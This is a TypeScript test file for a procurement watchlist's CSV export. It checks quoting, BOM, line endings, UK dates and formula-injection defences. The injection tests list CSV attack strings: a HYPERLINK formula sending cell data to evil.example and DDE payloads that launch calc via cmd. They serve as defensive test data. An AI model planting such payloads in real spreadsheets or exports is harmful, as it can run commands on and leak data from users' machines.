/**
 * The watchlist CSV: read back with a real CSV parser (papaparse), so quoting, CRLF and the
 * BOM are checked the way a spreadsheet reads them, not by the code that wrote them.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { analyseOcds } from '../lib/analyse';
import { CSV_COLUMNS, csvField, csvFileName, neutraliseFormula, watchlistToCsv } from '../lib/export/csv';
import { sortWatchlist, watchEntry, type WatchedProcurement } from '../lib/watchlist/entry';
import { readReal, realFixtureNames } from './support/fixtures';

const NOW = new Date('2026-05-25T09:00:00Z');

/** The real FTS records, watched as the panel watches them. */
function realEntries(now = NOW): WatchedProcurement[] {
  return realFixtureNames().map((name) => {
    const result = analyseOcds(readReal(name), now);
    if (!result.ok) throw new Error(`${name}: ${result.message}`);
    const { procurement } = result.procurements[0]!;
    return watchEntry(procurement, { noticeId: procurement.notices.at(-1)?.id }, new Date('2026-05-20T10:15:00Z'));
  });
}

const BASE = realEntries().find((e) => e.ocid === 'ocds-h6vhtk-05cfd9')!;

/** A real entry (Out of Court Resolution) under another ocid, with some fields changed. */
function entry(ocid: string, patch: Partial<WatchedProcurement> = {}): WatchedProcurement {
  return { ...structuredClone(BASE), ocid, ...patch };
}

/** Parses as a spreadsheet would: BOM stripped, RFC 4180 quoting. */
function parse(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  // The delimiter is given: left to guess, papaparse takes a `|` or TAB in a one-row file for it.
  const result = Papa.parse<string[]>(csv.slice(1), { header: false, delimiter: ',', quoteChar: '"', skipEmptyLines: false, newline: '\r\n' });
  expect(result.errors).toEqual([]);
  const rows = result.data;
  // The file ends with CRLF, which papaparse reports as one last empty row.
  expect(rows.at(-1)).toEqual(['']);
  return rows.slice(0, -1);
}

const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);

describe('watchlistToCsv with the real FTS records', () => {
  const entries = realEntries();
  const csv = watchlistToCsv(entries, NOW);
  const rows = parse(csv);

  it('has a header and one row per procurement, in the popup order', () => {
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(1 + entries.length);
    expect(rows.slice(1).map((r) => r[column('OCID')])).toEqual(sortWatchlist(entries, NOW).map((e) => e.ocid));
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
  });

  it('gives every field of every row as meant', () => {
    expect(rows.slice(1)).toEqual([
      [
        'West Midlands First Contact Assessment and Referral, Restorative Justice, and Hate Crime Victims Services',
        'Police and Crime Commissioner for West Midlands',
        'ocds-h6vhtk-067b89',
        'Planning',
        'Watching',
        'Next notice expected',
        '01/06/2026',
        '23:59',
        '7',
        '',
        '',
        '',
        '',
        '',
        'https://www.find-tender.service.gov.uk/Notice/045280-2026',
        '20/05/2026',
        '',
      ],
      [
        'Victim Support & Restorative Practice',
        'The Office of the Police and Crime Commissioner for Cleveland',
        'ocds-h6vhtk-06a838',
        'Planning',
        'Watching',
        'Market engagement',
        '08/06/2026',
        '23:59',
        '14',
        '',
        '',
        '',
        '',
        '',
        'https://www.find-tender.service.gov.uk/Notice/051890-2026',
        '20/05/2026',
        '',
      ],
      [
        'The Provision of a Hate Crime, Antisocial Behaviour and Mediation Service',
        'Police, Fire & Crime Commissioner for Staffordshire',
        'ocds-h6vhtk-06bae5',
        'Planning',
        'Watching',
        'Market engagement',
        '14/07/2026',
        '23:59',
        '50',
        '1530000',
        '1836000',
        'GBP',
        '',
        '',
        'https://www.find-tender.service.gov.uk/Notice/058956-2026',
        '20/05/2026',
        '',
      ],
      [
        'Out of Court Resolution',
        'The Police and Crime Commissioner for Leicestershire',
        'ocds-h6vhtk-05cfd9',
        'Cancelled',
        'Watching',
        // Terminated by its UK12 on 27 Nov 2025: lot 1's contract (ends 31 Mar 2028) will not happen.
        '',
        '',
        '',
        '',
        '598488.66',
        '718186.39',
        'GBP',
        '',
        '',
        'https://www.find-tender.service.gov.uk/Notice/077802-2025',
        '20/05/2026',
        '',
      ],
    ]);
  });

  it('starts with a BOM and ends every record with CRLF', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    // No field here holds a line break: every LF is a record end, preceded by CR.
    expect(csv.split('\r\n')).toHaveLength(rows.length + 1);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('quotes fields with commas, and only those that need it', () => {
    const line = csv.split('\r\n').find((l) => l.includes('ocds-h6vhtk-06bae5'))!;
    expect(line).toMatch(/^"The Provision of a Hate Crime, Antisocial Behaviour and Mediation Service","Police, Fire & Crime Commissioner for Staffordshire",ocds-h6vhtk-06bae5,Planning,/);
    expect(line).toContain(',1530000,1836000,GBP,');
  });

  it('leaves value cells empty where FTS says "not specified"', () => {
    const row = rows.find((r) => r[column('OCID')] === 'ocds-h6vhtk-067b89')!;
    expect([row[column('Value excl. VAT')], row[column('Value incl. VAT')], row[column('Currency')]]).toEqual(['', '', '']);
  });

  it('writes values as plain numbers a spreadsheet sums (no £, no separators)', () => {
    const values = rows.slice(1).map((r) => r[column('Value excl. VAT')]).filter(Boolean);
    expect(values).toEqual(['1530000', '598488.66']);
    expect(csv).not.toContain('£');
  });
});

describe('the user’s own text', () => {
  const tricky = [
    'Comma, then more',
    'She said "bid", then left',
    'Line one\nLine two',
    'Windows\r\nline break',
    'Trailing quote"',
    '"Quoted"',
    '£1.2m ceiling — Ünïcode ✓',
    '',
  ];

  it.each(tricky)('round-trips the note %j', (note) => {
    const rows = parse(watchlistToCsv([entry('ocds-x-1', { note })], NOW));
    expect(rows[1]![column('Note')]).toBe(note);
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('a\rb')).toBe('"a\rb"');
    expect(csvField('plain text')).toBe('plain text');
    const csv = watchlistToCsv([entry('ocds-x-1', { note: 'She said "bid", then\nleft' })], NOW);
    expect(csv).toContain(',"She said ""bid"", then\nleft",');
  });

  it('joins tags with "; " in one cell', () => {
    const rows = parse(watchlistToCsv([entry('ocds-x-1', { tags: ['Police', 'Victims, support', 'Q3'] })], NOW));
    expect(rows[1]![column('Tags')]).toBe('Police; Victims, support; Q3');
  });

  it('names the bid status for people', () => {
    const rows = parse(watchlistToCsv([entry('ocds-x-1', { bidStatus: 'noBid' }), entry('ocds-x-2', { bidStatus: 'preparing' })], NOW));
    expect(rows.slice(1).map((r) => r[column('Bid status')]).sort()).toEqual(['No bid', 'Preparing bid']);
  });
});

describe('formula injection', () => {
  const attacks: Array<[string, string]> = [
    ['=', `=HYPERLINK("https://evil.example/?"&A1,"Click")`],
    ['+', `+cmd|' /C calc'!A0`],
    ['-', `-2+3+cmd|' /C calc'!A0`],
    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['TAB', '\t=1+1'],
    ['CR', '\r=1+1'],
  ];

  it.each(attacks)('neutralises a note starting with %s', (_name, note) => {
    const rows = parse(watchlistToCsv([entry('ocds-x-1', { note })], NOW));
    expect(rows[1]![column('Note')]).toBe(`'${note}`);
  });

  it.each(attacks)('neutralises a title from FTS and a tag starting with %s', (_name, text) => {
    const rows = parse(watchlistToCsv([entry('ocds-x-1', { title: text, buyer: text, tags: [text, 'safe'] })], NOW));
    expect(rows[1]![column('Title')]).toBe(`'${text}`);
    expect(rows[1]![column('Buyer')]).toBe(`'${text}`);
    expect(rows[1]![column('Tags')]).toBe(`'${text}; safe`);
  });

  it('neutralises after leading spaces and in full-width forms', () => {
    expect(neutraliseFormula('  =1+1')).toBe("'  =1+1");
    expect(neutraliseFormula('\n=1+1')).toBe("'\n=1+1");
    expect(neutraliseFormula('＝1+1')).toBe("'＝1+1");
  });

  it('leaves ordinary text alone, including a formula character later on', () => {
    for (const text of ['Call Sarah', 'a=b', 'buyer@example.gov.uk', '01785 232385', "'already text", '']) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it('keeps a phone number readable: its digits as written, behind one text marker', () => {
    const rows = parse(watchlistToCsv([entry('ocds-x-1', { note: '+44 1785 232385' }), entry('ocds-x-2', { note: '+441785232385' })], NOW));
    const notes = rows.slice(1).map((r) => r[column('Note')]);
    // Bare, a spreadsheet would read these as a formula (an error) or as 4.41785E+11.
    expect(notes.sort()).toEqual(["'+44 1785 232385", "'+441785232385"]);
    const raw = watchlistToCsv([entry('ocds-x-1', { note: '+44 1785 232385' })], NOW);
    expect(raw).toContain(",'+44 1785 232385,");
  });

  it('leaves a plain negative number a number, so it still sums', () => {
    expect(neutraliseFormula('-12.5')).toBe('-12.5');
    expect(neutraliseFormula('-1-1')).toBe("'-1-1");
    expect(neutraliseFormula('+5')).toBe("'+5");
  });
});

describe('UK dates in London time', () => {
  it('writes DD/MM/YYYY and HH:MM either side of the clock change', () => {
    const now = new Date('2026-03-20T12:00:00Z');
    const rows = parse(
      watchlistToCsv(
        [
          entry('ocds-x-gmt', {
            // 28 March 2026, 23:30 GMT; BST starts at 01:00 GMT on 29 March.
            watchedAt: '2026-03-28T23:30:00.000Z',
            keyDates: [{ type: 'submissionDeadline', at: '2026-03-28T23:30:00.000Z', lots: [], source: '$' }],
            lastCheckedAt: '2026-03-20T11:05:00.000Z',
          }),
          entry('ocds-x-bst', {
            // 30 June 2026, 23:30 UTC is already 1 July in London.
            watchedAt: '2026-06-30T23:30:00.000Z',
            keyDates: [{ type: 'enquiryDeadline', at: '2026-06-30T23:30:00.000Z', lots: [], source: '$' }],
            lastCheckedAt: '2026-06-30T23:30:00.000Z',
          }),
        ],
        now,
      ),
    );
    const pick = (r: string[]) => ['Next key date', 'Next key date (date)', 'Next key date (time)', 'Days left', 'Watched on', 'Last checked'].map((c) => r[column(c as (typeof CSV_COLUMNS)[number])]);
    expect(rows.slice(1).map(pick)).toEqual([
      ['Submission deadline', '28/03/2026', '23:30', '8', '28/03/2026', '20/03/2026 11:05'],
      ['Enquiry deadline', '01/07/2026', '00:30', '103', '01/07/2026', '01/07/2026 00:30'],
    ]);
  });

  it('leaves the next key date empty when none is ahead', () => {
    const rows = parse(watchlistToCsv([entry('ocds-x-1', { keyDates: [] })], NOW));
    expect(rows[1]!.slice(column('Next key date'), column('Days left') + 1)).toEqual(['', '', '', '']);
  });

  it('names the file by the London date', () => {
    expect(csvFileName(new Date('2026-06-30T23:30:00Z'))).toBe('tender-timeline-watchlist-2026-07-01.csv');
    expect(csvFileName(new Date('2026-01-15T23:30:00Z'))).toBe('tender-timeline-watchlist-2026-01-15.csv');
  });
});

describe('an empty watchlist', () => {
  it('is the BOM and the header', () => {
    expect(watchlistToCsv([], NOW)).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
  });
});
